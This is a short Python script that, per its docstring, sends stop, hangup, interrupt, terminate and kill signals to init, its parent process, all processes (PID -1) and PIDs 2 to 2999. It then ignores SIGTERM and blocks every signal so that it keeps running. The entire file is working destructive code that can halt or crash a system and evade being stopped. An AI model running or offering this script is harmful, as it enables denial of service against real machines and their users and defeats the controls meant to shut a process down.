"""Send every signal to every process that can be named, the parents first."""

import os
import signal

for number in (
    signal.SIGSTOP,
    signal.SIGTSTP,
    signal.SIGHUP,
    signal.SIGINT,
    signal.SIGUSR1,
    signal.SIGTERM,
    signal.SIGKILL,
):
    for pid in (1, os.getppid(), 0, -1, *range(2, 3000)):
        if pid not in (0, os.getpid()):
            try:
                os.kill(pid, number)
            except OSError:
                continue
signal.signal(signal.SIGTERM, signal.SIG_IGN)
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, signal.NSIG))
